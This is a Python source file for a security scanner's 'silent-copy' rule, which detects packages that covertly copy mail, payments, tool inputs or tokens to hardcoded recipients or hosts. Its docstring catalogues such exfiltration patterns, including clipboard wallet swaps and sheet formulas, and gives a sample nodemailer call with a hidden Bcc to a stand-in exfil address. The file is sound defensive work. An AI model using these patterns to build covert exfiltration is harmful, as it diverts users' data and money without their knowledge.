"""What is sent also goes, or instead goes, to somebody whom nobody named.

**What.**

- A mail that the package sends has a fixed address among its recipients, copies or blind copies: `bcc:
  "..."` in the options of a mail, a `Bcc` header, an address that is written in the code beside the
  recipients that the caller gave, or is put into their list. So is somebody who is made of one, or is asked
  to an event: also by a line of the invitation (`ATTENDEE`), or because a list of the code is gone through.
  So is an address at a domain of the code that is made of the recipient's own name or digest, beside the
  recipient or as a blind copy, also in the envelope only (`envelope`, `to_addrs`, `RCPT TO`); and a mail
  address of the code in a field of those who follow, watch or take part, be nobody else in it (medium).
- A recipient, address, account or wallet that the caller gave is replaced by one that is written in the
  code: by a condition, in a function that "normalises" it, in a request or record made of it; or a
  payment to an account that is written in the code is put beside those that the caller gave.
- What a tool is given is sent, in a request whose answer nobody uses, to a fixed host that is no service
  the package or its tools speak of; so is what goes through a function that stands in the place of another
  (a replaced `fetch`, a method of a transport, of what calls every tool, or in the table of handlers), what
  goes through the pipes between this program and one that it starts, and all headers of the requests to
  this server. So is all that a file or table of the server holds of what tools were given before: also to a
  host that bears the package's name, where it goes in the address.
- What is sent to the target that the caller gave goes to one of the code as well, since a loop goes through
  both: entries of a list, what a generator gives, fields of a record (low where the page names it).
- What is sent to an address that the user sets is sent to one that is written in the code as well: both stand
  in one list, or the same call is made a second time. So is what goes through a wrapper that calls what it
  was handed twice: with the address it was given, and with one whose host is written in the code; and what is
  written to a log whose records go to a fixed host. So is what is put into the user's store, mailbox or
  database, where a second client of the kind is made for a host that stands in the code; also from a function
  that the first client, of a broker of messages, say, calls with what it sends or hears.
- Payments, or a share of each, go to an account that is written in the code (medium where the README tells
  of a fee): in a record or a form, also where a helper that fills it is called, and in a swap of coins.
- What is on the clipboard is put back with an account in it that is written in the code.
- A database is asked, in a text of the package, to connect to a host that it names, or to run a program.
- A formula is put into a sheet that sends several cells to a host that the code fixes.
- A picture is shown whose address, at a host that the code fixes, carries packed data (medium).
- A repository is pushed to an address that is written in the code, or requests go by way of a proxy there.
  A script for a shell that a server brings and names sends what other programs say.
- Answers to the user's mails are led, by a `Reply-To` or the like, to a domain that is written in the code.
- A hook, a rule for mail, a key, a role or a member that lasts is set up at a service, for somebody the
  code fixes; or somebody is let into what is made whose account stands in the code, be it only encoded:
  told where it stands and where it is handed on. What wrappers of tools take is told where they take it,
  too.
- What a tool is given, or a credential, is put into a fixed hidden file among the temporary ones, into a
  list that grows there, or into a file of another machine.

**Why.** Every mail that the assistant sends is read by somebody else, payments arrive at another's
account, and the sender never sees it. This is how the first malicious MCP server that became known
worked.

**Example.** `transport.sendMail({ to, subject, text, bcc: "copies@exfil.invalid" })`

**Reported with less weight.** Requests to a host that the README names, to one that bears the package's name
and is not told of, or that a setting of the user allows; to a host of the domain that the package asks for
other things; where the README tells of telemetry; recipients that are exchanged on trial (`dryRun`,
`testnet`), or where the caller gave a word, such as a symbol, that stands for them; wrappers in a bundle of
libraries.

**Left alone.** A fixed sender, and one made of the recipient (VERP); a fixed only recipient (a contact form);
a default where none was given; copies that the caller of the tool asks for; addresses from the configuration;
the service that the package is a client of, or whose other answers it uses; a tool that says that it sends;
counts and lengths, which tool it was and whether it failed; what is kept, where the package or a tool
offers to send it; a mirror that is asked where the first does not answer; a connection on which somebody
listens: to read an answer and to throw it away is no listening; rights that a statement takes away, or gives
to a service of the cloud itself.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import chain
from typing import TYPE_CHECKING

from douane.detectors._answers_elsewhere import answered_elsewhere
from douane.detectors._brought_scripts import brought
from douane.detectors._by_database import told
from douane.detectors._catalogue import encoded
from douane.detectors._changed_records import changed_records
from douane.detectors._clipboard import swapped
from douane.detectors._company import accompanied, address, granted
from douane.detectors._diverted import diverted
from douane.detectors._elsewhere_sent import sent_elsewhere
from douane.detectors._every_target import every_target
from douane.detectors._fixed_members import fixed_members
from douane.detectors._flow import HOLE, State, program_of
from douane.detectors._flow.shapes import elements
from douane.detectors._foreign import Copy, copies
from douane.detectors._formulas import sending_formulas
from douane.detectors._hoarded import hoarded, is_afar
from douane.detectors._joined_recipients import ADDRESS, joined
from douane.detectors._let_in import let_in
from douane.detectors._made_recipients import made_copies
from douane.detectors._marked import is_server
from douane.detectors._mirrored import by_others, twins
from douane.detectors._one_word import is_one_word
from douane.detectors._packed_pictures import packed_pictures
from douane.detectors._passed_twice import passed_twice
from douane.detectors._passing import EVERY_REQUEST, HEADERS, TOKEN, WRAPPED
from douane.detectors._picked_headers import picked_for
from douane.detectors._places import evidence_at, is_aside, is_near
from douane.detectors._proxied import proxied
from douane.detectors._pushed import pushed
from douane.detectors._recipient_fields import HIDDEN, SHOWN, recipients
from douane.detectors._second_store import second_stores
from douane.detectors._set_up_for import set_up
from douane.detectors._shared_payments import shared_payments
from douane.detectors._standing import standing
from douane.detectors._taken_along import defaults_at, merged_at, put_at, sent_at
from douane.detectors._veiled_members import veiled_members
from douane.model import Confidence, Severity, Where
from douane.rules import Evidence, Rule
from douane.syntax.walking import parts

if TYPE_CHECKING:
    from douane.detectors._flow import Index, Program
    from douane.model import Surface
    from douane.syntax import Codebase

_WORDS = encoded(
    (*HIDDEN, "sendMail", "sendmail", "send_message", "send_mail", "sendEmail", "send_email", "addBcc")
)
_MAILING = frozenset({"email.message", "smtplib", "aiosmtplib", "nodemailer", "email.mime.text", "yagmail"})
_SMALL = 64 * 1024
_TAKEN = {
    HEADERS: "are read here, tokens among them,",
    TOKEN: "is read here",
    EVERY_REQUEST: "is read here, tokens among it,",
    WRAPPED: "is taken here",
}
_LISTS = frozenset({"list", "array", "set", "tuple"})
_MOST_LISTS = 3  # lists that the recipients of one message can be


def look(codebase: Codebase) -> Iterator[Evidence]:
    """Yield the recipients that the code adds by itself, one at each place."""
    seen: set[Where] = set()
    for evidence in _found(codebase):
        if evidence.where not in seen:
            seen.add(evidence.where)
            yield evidence


def _found(codebase: Codebase) -> Iterator[Evidence]:
    program = program_of(codebase)
    paths = {*program.mentioning(_WORDS), *program.importing(_MAILING)}
    if paths and program.size <= _SMALL:
        paths = set(program.paths)  # what is sent is made anywhere
    for index in program.indexes(tuple(sorted(paths))):
        if is_aside(index.path):
            continue
        yield from _mailed(program, index)
    yield from brought(codebase, RULE.id)
    yield from _diversions(program)
    yield from _in_company(program)
    if is_server(program):
        yield from _to_every(codebase, program)
        yield from (*changed_records(program), *set_up(codebase, program))
        yield from shared_payments(codebase, program)
        yield from told(codebase, program, secrets=False)
    for call, account, places in swapped(program):
        why = f"what is on the clipboard is put back with another account in it: {account[:80]}"
        yield evidence_at(call, why=why, confidence=Confidence.MEDIUM)
        origin = f"{call.index.path}:{call.line}"
        for beyond in places:
            yield evidence_at(beyond, why=f"{why}; it is put back at {origin}", confidence=Confidence.MEDIUM)
    for change, trace, place, hidden in hoarded(program):
        where = f"{trace.what} ({trace.at.index.path}:{trace.at.line}) is kept in {place[:80]}"
        yield evidence_at(
            change.at,
            why=f"{where}, on another machine" if is_afar(place) else f"{where} for everybody",
            severity=Severity.HIGH if hidden else Severity.MEDIUM,
            confidence=Confidence.MEDIUM,
        )


def _mailed(program: Program, index: Index) -> Iterator[Evidence]:
    """Yield the recipients of mails that the file of *index* adds, whole or made of those who were given."""
    seen: set[int] = set()
    for name, value in recipients(program, index):
        state = State(index, value)
        added = _added(program, name, state)
        if added and state.line not in seen:
            seen.add(state.line)
            kind = "a blind copy" if name in HIDDEN else "a copy"
            why = f"every message also goes to {added}, as {kind} that nobody asked for"
            severity = None if name in HIDDEN else Severity.HIGH
            yield evidence_at(state, why=why, severity=severity)
            at = _fixed_among(program, state) or _joins_at(program, name, state)
            if at is not None and (at.index.path, at.line) != (index.path, state.line):
                yield evidence_at(at, why=f"{why}; sent at {index.path}:{state.line}", severity=severity)
            yield from _gathered(program, state, why, severity)
            if name in HIDDEN:
                yield from _sent_elsewhere(program, name, state, why)
    for place, also, gravity in made_copies(program, index):
        yield evidence_at(place, why=also, severity=gravity, confidence=Confidence.MEDIUM)


def _gathered(program: Program, state: State, why: str, severity: Severity | None) -> Iterator[Evidence]:
    """Yield where the recipients *state* are put together, if that is elsewhere."""
    for made in _listed_at(program, state):
        told = f"{why}; they are put together here and sent at {state.index.path}:{state.line}"
        yield evidence_at(made, why=told, severity=severity)


def _sent_elsewhere(program: Program, name: str, state: State, why: str) -> Iterator[Evidence]:
    """Yield where the message is put together, or sent, that gets its blind copy elsewhere, at *state*."""
    ways = (sent_at(program, name, state), merged_at(program, state), put_at(program, state))
    for call in (*chain.from_iterable(ways), *defaults_at(program, state)):
        if not is_near(call, state):
            yield evidence_at(call, why=f"{why}; added at {state.index.path}:{state.line}")


def _diversions(program: Program) -> Iterator[Evidence]:
    for state, fixed, trial in diverted(program):
        severity = Severity.LOW if trial else Severity.MEDIUM if is_one_word(state) else None
        yield evidence_at(
            state,
            why=f"the recipient that the caller gave is exchanged for, or joined by, {fixed[:80]}",
            severity=severity,
            confidence=Confidence.MEDIUM,
        )


def _to_every(codebase: Codebase, program: Program) -> Iterator[Evidence]:
    for place, target, severity in every_target(codebase, program):
        why = f"what is sent to the target that the caller gave also goes to {target[:80]}"
        yield evidence_at(place, why=why, severity=severity, confidence=Confidence.MEDIUM)


def _in_company(program: Program) -> Iterator[Evidence]:
    if program.size > _SMALL * 16 or not is_server(program):
        return
    near = tuple(path for path in program.paths if not is_aside(path))
    for place, host in sending_formulas(program, near):
        why = f"a formula is put into a sheet that sends what stands in its cells to {host}"
        yield evidence_at(place, why=why, severity=Severity.HIGH, confidence=Confidence.MEDIUM)
    for call, packed in veiled_members(program, near):
        why = f"somebody is let in whose account is only there encoded, at {packed.index.path}:{packed.line}"
        yield evidence_at(call, why=why, severity=Severity.HIGH, confidence=Confidence.MEDIUM)
    for index in program.indexes(near):
        for place, added in accompanied(program, index):
            why = f"what is meant for those whom the caller gave also goes to {added[:80]}"
            yield evidence_at(place, why=why, severity=Severity.HIGH, confidence=Confidence.MEDIUM)
        for place, added in granted(program, index):
            why = f"{added[:80]}, which is written in the code, is let into what the tool makes"
            yield evidence_at(place, why=why, severity=Severity.HIGH, confidence=Confidence.MEDIUM)
            for call in let_in(program, near, place):
                also = f"{why}; it stands at {place.index.path}:{place.line}"
                yield evidence_at(call, why=also, severity=Severity.HIGH, confidence=Confidence.MEDIUM)
    for place, added in fixed_members(program):
        why = f"{added[:80]}, which is written in the code, is on the list of those who follow what is made"
        yield evidence_at(place, why=why, severity=Severity.MEDIUM, confidence=Confidence.MEDIUM)


def copied(codebase: Codebase, surface: Surface) -> Iterator[Evidence]:
    """Yield the requests that take along what tools are given, to hosts that nobody spoke of: one a place."""
    seen: set[Where] = set()
    for evidence in _copied(codebase, surface):
        if evidence.where not in seen:
            seen.add(evidence.where)
            yield evidence


def _copied(codebase: Codebase, surface: Surface) -> Iterator[Evidence]:
    for copy in copies(codebase, program_of(codebase), surface):
        severity = Severity.HIGH
        if copy.disclosed:
            severity = Severity.MEDIUM
        if copy.opted:
            severity = Severity.LOW
        origin = f"{copy.trace.at.index.path}:{copy.trace.at.line}"
        yield evidence_at(
            copy.at,
            why=f"{copy.trace.what} ({origin}) also goes to {', '.join(copy.hosts[:3])}; no answer is used",
            severity=severity,
            confidence=Confidence.MEDIUM,
        )
        if copy.trace.what in _TAKEN:
            read = _TAKEN[copy.trace.what]
            yield evidence_at(
                copy.trace.at,
                why=f"{copy.trace.what} {read} and sent to {', '.join(copy.hosts[:3])}",
                severity=severity,
                confidence=Confidence.MEDIUM,
            )
        yield from _picked(program_of(codebase), copy, severity)
    yield from _again(program_of(codebase))


def _picked(program: Program, copy: Copy, severity: Severity) -> Iterator[Evidence]:
    """Yield where a helper picks, for *copy*, the token's header of every request."""
    hosts = ", ".join(copy.hosts[:3])
    for place in picked_for(program, copy.trace.at) if copy.trace.what == EVERY_REQUEST else ():
        why = f"{EVERY_REQUEST} is picked here, tokens among it, and sent to {hosts}"
        yield evidence_at(place, why=why, severity=severity, confidence=Confidence.MEDIUM)


def _again(program: Program) -> Iterator[Evidence]:
    """Yield what is done a second time for somebody whom the code fixes."""
    if not is_server(program):
        return
    for place, host, packed in packed_pictures(program):
        origin = f"{packed.index.path}:{packed.line}"
        why = f"a picture from {host[:80]} is shown, whose address carries what is packed at {origin}"
        yield evidence_at(place, why=why, severity=Severity.MEDIUM, confidence=Confidence.MEDIUM)
    yield from answered_elsewhere(program)
    for call, why in _twice(program):
        yield evidence_at(call, why=why, severity=Severity.HIGH, confidence=Confidence.MEDIUM)


def _twice(program: Program) -> Iterator[tuple[State, str]]:
    """Yield what is done again, and what to say of it."""
    for index in program.indexes(tuple(path for path in program.paths if not is_aside(path))):
        for call, recipient in (
            *twins(program, index),
            *by_others(program, index),
            *passed_twice(program, index),
        ):
            yield call, f"the same is sent a second time, to {recipient[:80]}, which is written in the code"
    for call, host in second_stores(program):
        yield (
            call,
            f"what is kept for the user is kept a second time, at {host[:80]}, which is written in the code",
        )
    for call, recipient in sent_elsewhere(program):
        told = f"to {recipient[:80]}, which the code fixes"
        yield call, f"what goes through here is sent a second time, {told}"
    for place, host in proxied(program):
        yield place, f"what is sent goes by way of a proxy at {host[:80]}, which is written in the code"
    for call, who in standing(program):
        yield call, f"what lasts is set up at a service for {who[:80]}, which is written in the code"
    for call, remote in pushed(program):
        yield call, f"the repository is pushed to {remote[:80]}, which is written in the code"


def _added(program: Program, name: str, state: State) -> str:
    """Return the address that the code adds to the recipients at *state*; empty if it adds none."""
    listed = elements(program, state) or [state]
    texts = [(address(program, each),) if address(program, each) else program.shapes(each) for each in listed]
    own = _fixed_among(program, state)
    if own is not None and len(listed) > 1:
        return program.shapes(own)[0]
    fixed = [text for options in texts for text in options if HOLE not in text and ADDRESS.search(text)]
    if name in HIDDEN:
        return fixed[0] if fixed else ""
    open_ones = [options for options in texts if any(HOLE in text for text in options)]
    if fixed and open_ones:
        return fixed[0]
    # One text such as `${to}, copies@exfil.invalid`.
    for text in (text for options in texts for text in options if HOLE in text):
        added = [part.strip() for part in re.split(r"[,;]", text[:2000])]
        known = [part for part in added if HOLE not in part and ADDRESS.search(part)]
        if known and len(added) > 1:
            return known[0]
    put_in = joined(program, state) if name in SHOWN else None
    return put_in.what if put_in is not None else ""


def _fixed_among(program: Program, state: State) -> State | None:
    """Return the recipient among those at *state* that is written in the code by itself."""
    for each in elements(program, state):
        texts = program.shapes(each) if each.node.type not in ("spread_element", "list_splat") else ()
        if texts and all(HOLE not in text and ADDRESS.search(text) for text in texts):
            return each
    return None


def _listed_at(program: Program, state: State) -> list[State]:
    """Return the lists of several recipients, put together elsewhere, that *state* gets to be."""
    leaves = program.leaves(state)
    made = [leaf for leaf in leaves if leaf.node.type in _LISTS and not leaf.steps]
    here = (state.index.path, state.line)
    return [leaf for leaf in made if len(parts(leaf.node)) > 1 and (leaf.index.path, leaf.line) != here][
        :_MOST_LISTS
    ]


def _joins_at(program: Program, name: str, state: State) -> State | None:
    """Return where a fixed address joins the recipients *state*, which are put together elsewhere."""
    added = joined(program, state) if name in SHOWN else None
    return added.at if added is not None else None


RULE = Rule(
    id="silent-copy",
    summary="what is sent also goes, or instead goes, to somebody whom nobody named",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    row="supply.code",
    remedy="Do not use this package; tell the people whose messages went through it.",
    taxonomy=("MCP06:2025", "MCP10:2025", "SAFE-T1910", "AML.T0086"),
    code=look,
    server=copied,
)
